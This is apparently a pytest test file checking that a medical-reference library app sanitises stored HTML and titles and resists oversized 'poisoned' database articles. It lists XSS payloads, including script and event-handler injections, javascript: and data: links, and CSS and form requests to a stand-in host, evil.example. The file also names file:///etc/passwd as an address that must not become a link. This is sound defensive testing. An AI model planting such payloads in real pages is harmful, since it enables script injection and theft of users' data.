"""Somebody else wrote to the library's database: what the reader sees is harmless all the same."""

from __future__ import annotations

import json
import re
import sqlite3
import time
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from dermatome.errors import DataError
from dermatome.library.importing import read_articles
from dermatome.library.load import library
from dermatome.library.markup import safe_inline
from dermatome.library.mentions import find_mentions, find_terms
from dermatome.library.mentions.rules import headed_sense
from dermatome.library.passages import passages
from dermatome.library.reading import read
from dermatome.library.records import Article, Passage, Section
from dermatome.library.rows import CUT
from dermatome.library.search import search
from dermatome.library.store import Store
from dermatome.ui.library.cards import imported_cards, origin, source_link
from dermatome.ui.library.text import MOST_SHOWN, is_cut, section_text, shown, table_of_contents

HOSTILE = [
    "<script>window.pwned = 1</script>",
    '<img src=x onerror="window.pwned = 1">',
    "<svg onload=alert(1)><foreignObject><iframe src=//evil.example></iframe></foreignObject></svg>",
    '<a href="javascript:alert(1)">go</a>',
    '<a href="java&#10;script:alert(1)">go</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">go</a>',
    '<a href="vbscript:msgbox(1)" onmouseover=alert(1)>go</a>',
    '<b style="background:url(https://evil.example/?c=1)">bold</b>',
    "<style>*{background:url(https://evil.example)}</style>",
    "<math><mtext></p><img src=x onerror=alert(1)></mtext></math>",
    '<form action="https://evil.example"><input name=password></form>',
    "<object data=x></object><embed src=x><base href=//evil.example>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<sup class="cite evil" style="x" onclick=alert(1)>1</sup>',
    "<template><script>alert(1)</script></template>",
    '<a href="//evil.example" target=_top ping=https://evil.example>go</a>',
    "</section></div></main><h1>Not part of the text</h1>",
]
ELEMENTS = {
    "a",
    "strong",
    "em",
    "sub",
    "sup",
    "code",
    "del",
    "mark",
    "br",
    "p",
    "ul",
    "ol",
    "li",
    "table",
    "tr",
    "td",
    "th",
}
ATTRIBUTES = {"href", "title", "class", "id", "start", "data-root", "data-sense", "data-said"}


class _Seen(HTMLParser):
    """Collects elements, attributes and addresses of a piece of HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: set[str] = set()
        self.attributes: set[str] = set()
        self.addresses: set[str] = set()
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.addresses |= {re.sub(r"\s", "", value or "").lower() for name, value in attrs if name == "href"}


def _assert_harmless(html: str) -> None:
    seen = _Seen(html)
    assert seen.elements <= ELEMENTS, html
    assert seen.attributes <= ATTRIBUTES, html
    assert not [a for a in seen.addresses if a.startswith(("javascript:", "data:", "vbscript:"))], html


@pytest.fixture
def store() -> Store:
    passage = Passage("p-1", "The S1 root at the heel.", "The S1 root at the <em>heel</em>.")
    table = Passage("p-2", "a b", "", kind="row", cells=("a", "b"))
    item = Passage("p-3", "third", "third", kind="item", number=3)
    section = Section("one", "Skin", 2, (passage, table, item), None, None)
    return Store.memory(
        [Article("given", "Given", "imported", (section,), ("S1",), source="https://a.example/x")]
    )


def _spoil(store: Store, **extra: Any) -> None:
    """Write to the database as another program could."""
    for number, old in store._connection.execute("SELECT number, extra FROM passage").fetchall():
        changed = json.dumps({**json.loads(old), **extra})
        store._connection.execute("UPDATE passage SET extra = ? WHERE number = ?", (changed, number))


def _read(store: Store) -> str:
    article = store.get("given")
    assert article is not None
    return "".join(section_text(section) for section in article.sections)


@pytest.mark.parametrize("evil", HOSTILE)
def test_markup_written_past_the_importer_is_sanitised(store: Store, evil: str) -> None:
    _spoil(store, markup=f"Before {evil} after", cells=[evil, f"x{evil}"])
    html = _read(store)
    assert "Before" in html
    _assert_harmless(html)


@pytest.mark.parametrize(
    "extra",
    [
        {"number": '3" onclick="alert(1)'},
        {"depth": "deep"},
        {"cells": 5},
        {"markup": None},
        {"citations": None},
    ],
)
def test_a_damaged_passage_is_told_not_shown(store: Store, extra: dict[str, Any]) -> None:
    _spoil(store, **extra)
    with pytest.raises(DataError, match="damaged"):
        store.get("given")


def test_an_unknown_kind_is_a_paragraph(store: Store) -> None:
    _spoil(store, kind='"><script>', surprise=1)
    article = store.get("given")
    assert article is not None
    assert {passage.kind for passage in article.passages} == {"paragraph"}


@pytest.mark.parametrize("evil", HOSTILE)
def test_names_written_past_the_importer_are_text(store: Store, evil: str) -> None:
    run = store._connection.execute
    run("UPDATE article SET title = ?, source = ?, date = ?, language = ?", (evil, evil, evil, evil))
    run("UPDATE section SET heading = ?", (evil,))
    article = store.get("given")
    assert article is not None
    cards = imported_cards(store.articles()) + origin(article) + table_of_contents(article)
    seen = _Seen(cards)
    assert not seen.elements & {
        "script",
        "img",
        "svg",
        "iframe",
        "style",
        "form",
        "input",
        "object",
        "template",
    }
    assert not {name for name in seen.attributes if name.startswith("on")}


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        "data:text/html,x",
        "http://[",
        "https://[::1",
        "//evil",
        "file:///etc/passwd",
        "",
    ],
)
def test_only_web_addresses_become_links(address: str) -> None:
    assert source_link(address) == ""


def test_our_own_texts_pass_unchanged() -> None:
    """The second sanitising alters nothing that the first let through."""
    markups = [m for a in library().articles for p in a.passages for m in (p.markup, *p.cells)]
    assert len(markups) > 1000
    assert [m for m in markups if safe_inline(m) != m] == []


def test_imported_texts_pass_unchanged(tmp_path: Path) -> None:
    page = tmp_path / "a.html"
    page.write_text(
        "<h1>T</h1><p>S1 <b>bold</b> <a href='https://a.example/?a=1&amp;b=2'>link</a> 5 &lt; 6 &amp; “q” x"
        "<br>y<sub>2</sub></p><ul><li>one<li>two</ul><table><tr><td>a &amp; b<td>c</table>",
        encoding="utf-8",
    )
    (article,) = read_articles(page)
    markups = [m for p in article.passages for m in (p.markup, *p.cells)]
    assert any("<a href" in markup for markup in markups)
    assert [safe_inline(markup) for markup in markups] == markups


# ---- what was stored too long ------------------------------------------------------------------------

POISON = ["third, ", "C5 is weak, ", "great big ", "L4 to ", "x"]


def poisoned(folder: Path, text: str, passages: int = 40, sections: int = 3) -> Store:
    """Return a library into which somebody wrote an article that no import makes."""
    Store.open(folder).close()
    with sqlite3.connect(folder / "library.sqlite3") as db:
        db.execute(
            "INSERT INTO article VALUES ('bad', ?, 'imported', 'S1', '', '', '', '', 'en', '2026', ?)",
            (text[:200_000], sections * passages),
        )
        for section in range(sections):
            db.execute(
                "INSERT INTO section VALUES ('bad', ?, ?, ?, 2, NULL, NULL)",
                (section, f"s{section}", text[:200_000]),
            )
            for number in range(passages):
                row = db.execute(
                    "INSERT INTO passage (article, section, id, title, heading, text, extra) "
                    "VALUES ('bad', ?, ?, '', '', ?, '{}')",
                    (section, f"s{section}-{number}", f"S1 sole {section}.{number} {text}"),
                )
                db.execute("INSERT INTO passage_root VALUES ('S1', 'dermatome', ?)", (row.lastrowid,))
                db.execute("INSERT INTO passage_part VALUES ('foot-sole', ?)", (row.lastrowid,))
    return Store.open(folder)


def _looked_at(store: Store) -> float:
    """Return the seconds that a click, a search and the page of the article take together."""
    for cache in (read, find_mentions, find_terms, headed_sense):
        cache.cache_clear()
    started = time.process_time()
    assert passages("S1", layer="dermatome", body_part="foot-sole", stores=[store])
    assert search("sole", "S1", stores=[store])
    article = store.get("bad")
    assert article is not None
    for section, linked in shown(article):
        section_text(section, linked=linked)
    table_of_contents(article)
    return time.process_time() - started


@pytest.mark.slow
@pytest.mark.parametrize("piece", POISON)
def test_a_poisoned_article_costs_a_look_no_more_than_a_long_one(tmp_path: Path, piece: str) -> None:
    """Fifty times the text, bounded when it is ranked, searched and shown."""
    (tmp_path / "long").mkdir()
    (tmp_path / "poisoned").mkdir()
    with poisoned(tmp_path / "long", piece * (4_000 // len(piece))) as store:
        _looked_at(store)
        long = max(_looked_at(store), 0.1)
    with poisoned(tmp_path / "poisoned", piece * (200_000 // len(piece))) as store:
        assert _looked_at(store) < 5 * long


def test_what_is_cut_says_so(tmp_path: Path) -> None:
    with poisoned(tmp_path, "x" * 200_000, passages=80) as store:
        article = store.get("bad")
        assert article is not None
        assert all(passage.text.endswith(CUT) for passage in article.passages)
        assert all(len(section.heading) <= 1_000 for section in article.sections)
        assert is_cut(article)
        size = sum(len(passage.text) for section, _ in shown(article) for passage in section.passages)
        assert 900_000 < size <= MOST_SHOWN


def test_a_long_article_is_shown_whole_and_linked_from_its_beginning() -> None:
    text = "The S1 root supplies the sole. " * 20
    passages_of = tuple(Passage(f"a-{n}", f"{n} {text}", f"{n} {text}") for n in range(400))
    section = Section("a", "A", 2, passages_of)
    article = Article("a", "A", "imported", (section, replace(section, id="b")), ("S1",))
    parts = list(shown(article))
    assert [linked for _, linked in parts] == [True, False, False]
    assert [part.heading for part, _ in parts] == ["A", "", "A"]
    assert sum(len(part.passages) for part, _ in parts) == 800
    assert not is_cut(article)
    assert "mention" in section_text(parts[0][0])
    assert "mention" not in section_text(parts[1][0], linked=False)
